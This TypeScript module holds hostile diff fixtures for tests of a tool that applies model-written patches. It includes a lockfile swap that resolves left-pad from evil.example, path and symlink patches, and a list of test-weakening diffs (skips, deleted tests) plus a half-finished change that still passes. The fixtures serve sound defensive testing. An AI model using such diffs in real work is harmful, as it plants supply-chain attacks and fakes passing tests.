/**
 * Hostile diff texts for test/hostile/patches-paths.test.ts and patches-replies.test.ts, all
 * against the fixture `js-node-test-zero-deps`. Paths outside the repository are passed in, so a
 * patch can aim at the oracle's sentinel folder (which the oracle checks byte for byte).
 */

/** A diff that creates `path` (as written, `b/` prefix added) holding `lines`. */
export function createFile(path: string, lines: readonly string[]): string {
  return `--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,${lines.length} @@\n${lines.map((line) => `+${line}`).join('\n')}\n`;
}

/** A git diff that creates `path` with a declared file mode (`120000` symlink, `160000` gitlink). */
export function createWithMode(path: string, mode: string, content: string): string {
  return `diff --git a/${path} b/${path}\nnew file mode ${mode}\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+${content}\n\\ No newline at end of file\n`;
}

/** A diff that deletes `path`, whose one line is `line`. */
export function deleteFile(path: string, line: string): string {
  return `--- a/${path}\n+++ /dev/null\n@@ -1 +0,0 @@\n-${line}\n`;
}

/** A pure git rename (similarity 100%, no hunks). */
export function renameFile(from: string, to: string): string {
  return `diff --git a/${from} b/${to}\nsimilarity index 100%\nrename from ${from}\nrename to ${to}\n`;
}

/** A pure git copy (similarity 100%, no hunks). */
export function copyFile(from: string, to: string): string {
  return `diff --git a/${from} b/${to}\nsimilarity index 100%\ncopy from ${from}\ncopy to ${to}\n`;
}

/** One hunk on `path`; `lines` carry their own ` `, `-` or `+` prefix. */
export function modifyFile(path: string, lines: readonly string[]): string {
  const old = lines.filter((line) => !line.startsWith('+')).length;
  const next = lines.filter((line) => !line.startsWith('-')).length;
  return `--- a/${path}\n+++ b/${path}\n@@ -1,${old} +1,${next} @@\n${lines.join('\n')}\n`;
}

/** A harmless, valid change: rewords formatPrice's doc comment. The self-check stays green. */
export const REWORD_DOC = modifyFile('src/format.js', [
  '-/** Formats cents as dollars: 1250 -> "$12.50". */',
  '+/** Formats cents as dollars (1250 -> "$12.50"). */',
  ' export function formatPrice(cents) {',
  '   return `$${(cents / 100).toFixed(2)}`;',
]);

/** REWORD_DOC's new comment line, to find on the branch. */
export const REWORDED_LINE = '/** Formats cents as dollars (1250 -> "$12.50"). */';

/** Two hunks on src/format.js: the first applies, the second's removed line (`padEnd(99)`) is not in the file. */
export const SECOND_HUNK_MISSES = `--- a/src/format.js
+++ b/src/format.js
@@ -1,3 +1,3 @@
-/** Formats cents as dollars: 1250 -> "$12.50". */
+/** Formats cents as dollars (1250 -> "$12.50"). */
 export function formatPrice(cents) {
   return \`$\${(cents / 100).toFixed(2)}\`;
@@ -7,3 +7,3 @@
 export function formatLine({ name, priceCents, quantity }) {
-  return \`\${quantity} x \${name.padEnd(99)}\${formatPrice(priceCents * quantity)}\`;
+  return \`\${quantity} x \${name.padEnd(20)}\${formatPrice(priceCents * quantity)}\`;
 }
`;

/** Flips src/cart.js to executable and changes nothing else. */
export const MODE_ONLY = 'diff --git a/src/cart.js b/src/cart.js\nold mode 100644\nnew mode 100755\n';

/** REWORD_DOC, plus a flip of src/format.js to executable. */
export const MODE_AND_CONTENT = `diff --git a/src/format.js b/src/format.js\nold mode 100644\nnew mode 100755\n${REWORD_DOC}`;

/** `git diff --binary` of a new 16-byte PNG header: a literal binary patch git would apply. */
export const BINARY_LITERAL = `diff --git a/logo.png b/logo.png
new file mode 100644
index 0000000000000000000000000000000000000000..029ace0fcbb58feb758971feed0457fd34dbb60b
GIT binary patch
literal 16
XcmeAS@N?(olHy\`uVBq!ia0vnc8m<D~

literal 0
HcmV?d00001

`;

/** A git diff adding a submodule (gitlink) at vendor/lib. */
export const SUBMODULE = `diff --git a/vendor/lib b/vendor/lib
new file mode 160000
index 0000000..1234567
--- /dev/null
+++ b/vendor/lib
@@ -0,0 +1 @@
+Subproject commit 1234567890abcdef1234567890abcdef12345678
`;

/** About 10 MB creating one file: `lines` lines of `width` characters each. */
export function hugeCreate(lines: number, width: number): string {
  const body = Array.from({ length: lines }, (_, i) => `+// ${String(i).padStart(7, '0')} ${'x'.repeat(width - 12)}`).join('\n');
  return `--- /dev/null\n+++ b/src/huge.js\n@@ -0,0 +1,${lines} @@\n${body}\n`;
}

/** A minimal committed npm lockfile for the fixture. */
export const LOCKFILE = `${JSON.stringify({ name: 'shopping-cart', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'shopping-cart', version: '1.0.0' } } }, null, 2)}\n`;

/** Points the lockfile at a tarball of the attacker's choosing. */
export const LOCKFILE_SWAP = modifyFile('package-lock.json', [
  '   "packages": {',
  '     "": {',
  '       "name": "shopping-cart",',
  '       "version": "1.0.0"',
  '+    },',
  '+    "node_modules/left-pad": {',
  '+      "version": "1.3.0",',
  '+      "resolved": "https://evil.example/left-pad-1.3.0.tgz"',
  '     }',
]);

/** Adds a runtime dependency to the fixture's package.json. */
export const ADD_DEPENDENCY = modifyFile('package.json', [
  '   "type": "module",',
  '+  "dependencies": {',
  '+    "left-pad": "1.3.0"',
  '+  },',
  '   "scripts": {',
  '     "test": "node --test"',
  '   }',
]);

const FORMAT_TEST = 'test/format.test.js';

/** Ways to weaken test/format.test.js (node:test): what the diff does, the diff, and the phrase heal should use. */
export const TEST_WEAKENINGS: Array<[string, string, RegExp]> = [
  ['deleting a test file', `--- a/${FORMAT_TEST}\n+++ /dev/null\n@@ -1,12 +0,0 @@\n${[
    'import { test } from "node:test";',
    'import assert from "node:assert/strict";',
    'import { formatLine, formatPrice } from "../src/format.js";',
    '',
    'test("formatPrice shows two decimals", () => {',
    '  assert.equal(formatPrice(1250), "$12.50");',
    '});',
    '',
    'test("formatLine multiplies and aligns", () => {',
    '  const line = { name: "Coffee beans", priceCents: 1200, quantity: 2 };',
    '  assert.equal(formatLine(line), "2 x Coffee beans    $24.00");',
    '});',
  ].map((line) => `-${line}`).join('\n')}\n`, /deletes the test file/],
  ['test.skip(', modifyFile(FORMAT_TEST, [
    '-test("formatPrice shows two decimals", () => {',
    '+test.skip("formatPrice shows two decimals", () => {',
    '   assert.equal(formatPrice(1250), "$12.50");',
  ]), /skips or focuses 1 test/],
  ['it.skip(', modifyFile(FORMAT_TEST, [
    '-import { test } from "node:test";',
    '+import { it, test } from "node:test";',
    ' import assert from "node:assert/strict";',
    ' import { formatLine, formatPrice } from "../src/format.js";',
    ' ',
    '-test("formatPrice shows two decimals", () => {',
    '+it.skip("formatPrice shows two decimals", () => {',
    '   assert.equal(formatPrice(1250), "$12.50");',
  ]), /skips or focuses 1 test/],
  ['{ skip: true }', modifyFile(FORMAT_TEST, [
    '-test("formatPrice shows two decimals", () => {',
    '+test("formatPrice shows two decimals", { skip: true }, () => {',
    '   assert.equal(formatPrice(1250), "$12.50");',
  ]), /skips or focuses 1 test/],
  ['t.skip() inside the test', modifyFile(FORMAT_TEST, [
    '-test("formatPrice shows two decimals", () => {',
    '+test("formatPrice shows two decimals", (t) => {',
    '+  t.skip("flaky");',
    '   assert.equal(formatPrice(1250), "$12.50");',
  ]), /skips or focuses 1 test/],
  ['removing a test case', modifyFile(FORMAT_TEST, [
    '   assert.equal(formatPrice(1250), "$12.50");',
    ' });',
    '-',
    '-test("formatLine multiplies and aligns", () => {',
    '-  const line = { name: "Coffee beans", priceCents: 1200, quantity: 2 };',
    '-  assert.equal(formatLine(line), "2 x Coffee beans    $24.00");',
    '-});',
  ]), /removes 1 test/],
];

/** A model reply with no diff in it. */
export const PROSE = 'Sure! To reword the comment, change the first line of src/format.js so it reads "(1250 -> $12.50)".';

/** A formatPercent helper cut off after its doc comment: it applies and the tests pass, but it is half a change. */
export const CUT_OFF_DIFF = `--- a/src/format.js
+++ b/src/format.js
@@ -1,4 +1,6 @@
 /** Formats cents as dollars: 1250 -> "$12.50". */
 export function formatPrice(cents) {
   return \`$\${(cents / 100).toFixed(2)}\`;
 }
+
+/** Formats a ratio as a percentage: 0.25 -> "25%". */
`;
